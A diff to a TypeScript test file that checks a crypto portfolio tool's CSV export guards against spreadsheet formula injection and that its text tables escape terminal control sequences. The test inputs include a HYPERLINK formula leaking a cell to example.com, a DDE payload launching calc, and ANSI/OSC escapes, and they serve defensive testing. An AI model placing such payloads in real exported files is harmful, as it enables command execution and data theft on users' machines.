@@ -8,20 +8,51 @@ import { anyDecimal } from "../domain/decimal.ts";
 import { assetOf, snapshotWith } from "../domain/snapshots.ts";
 import { parseCsv } from "./rfc4180.ts";
 
+/** As a reader who wants the names themselves undoes it: docs/history.md. */
+function withoutGuard(field: string): string {
+  return /^'+[=+\-@\t\r\n＝＋－＠]/.test(field) ? field.slice(1) : field;
+}
+
+const joined = (parts: readonly string[]) => parts.join("");
+
 describe("csvLine", () => {
-  it("gives back every field as it was, whatever is in it", () => {
+  it("gives back every field as it was, whatever is in it, once the apostrophe is off that guards a formula", () => {
     const text = fc.oneof(
       fc.string({ unit: "binary" }),
-      fc.array(fc.constantFrom(",", '"', "\r", "\n", " ", "a", ";", "'"), { maxLength: 8 }).map((all) => all.join("")),
+      fc.array(fc.constantFrom(",", '"', "\r", "\n", " ", "a", ";", "'", "=", "-", "1"), { maxLength: 8 }).map(joined),
     );
     const record = fc.array(text, { minLength: 1, maxLength: 8 });
     fc.assert(
       fc.property(fc.array(record, { minLength: 1, maxLength: 4 }), (records) => {
         const csv = records.map(csvLine).join("");
 
-        expect(parseCsv(csv)).toEqual(records);
+        expect(parseCsv(csv).map((fields) => fields.map(withoutGuard))).toEqual(records);
       }),
       { numRuns: 300 },
+    );
+  });
+
+  it.each([
+    `=HYPERLINK("http://example.com/?"&A1,"btc")`,
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-1+1",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "＝1",
+    "'=1",
+  ])("guards %j, which a spreadsheet would run", (symbol) => {
+    const [[field] = []] = parseCsv(csvLine([symbol]));
+
+    expect(field).toBe(`'${symbol}`);
+  });
+
+  it("leaves every amount as it was given", () => {
+    fc.assert(
+      fc.property(anyDecimal, (decimal) => {
+        expect(csvLine([decimal, `-${decimal.replace("-", "")}`])).toBe(`${decimal},-${decimal.replace("-", "")}\r\n`);
+      }),
     );
   });
 
@@ -54,6 +85,12 @@ describe("textTable", () => {
       "eth            0.123456789012345678",
       "rep            –",
     ]);
+  });
+
+  it("keeps a cell one line and shows what would steer the terminal", () => {
+    const table = textTable(columns, [["\u001b[2Jb\nt\u202ec\u009b", "1"]]);
+
+    expect(table.split("\n").slice(2)).toEqual(["\\u001b[2Jb\\u000at\\u202ec\\u009b      1"]);
   });
 
   it("is as wide as its titles where the cells are narrow", () => {
@@ -135,6 +172,20 @@ describe("snapshotTable", () => {
       "",
       "total 303346.48 usd, covers 2 of 4 assets; without a price: old, rep",
     ]);
+  });
+
+  it("shows in every line what a symbol holds, and lets none of it steer the terminal", () => {
+    const symbol = "btc\u001b]0;x\u0007";
+    const steers = { [symbol]: { [symbol]: ["1", "1"] as const } };
+
+    const held = snapshotTable(snapshotWith(steers), view);
+    const gone = snapshotTable(snapshotWith({}), { ...view, since: snapshotWith(steers) });
+    const unsettled = snapshotTable(snapshotWith({}, { unsettled: [symbol] }), view);
+
+    for (const text of [held, gone, unsettled]) {
+      expect(text).toContain("btc\\u001b]0;x\\u0007");
+      expect(text).not.toMatch(/[^\n\P{Cc}]/u);
+    }
   });
 
   it("says of an account without assets that it holds nothing", () => {
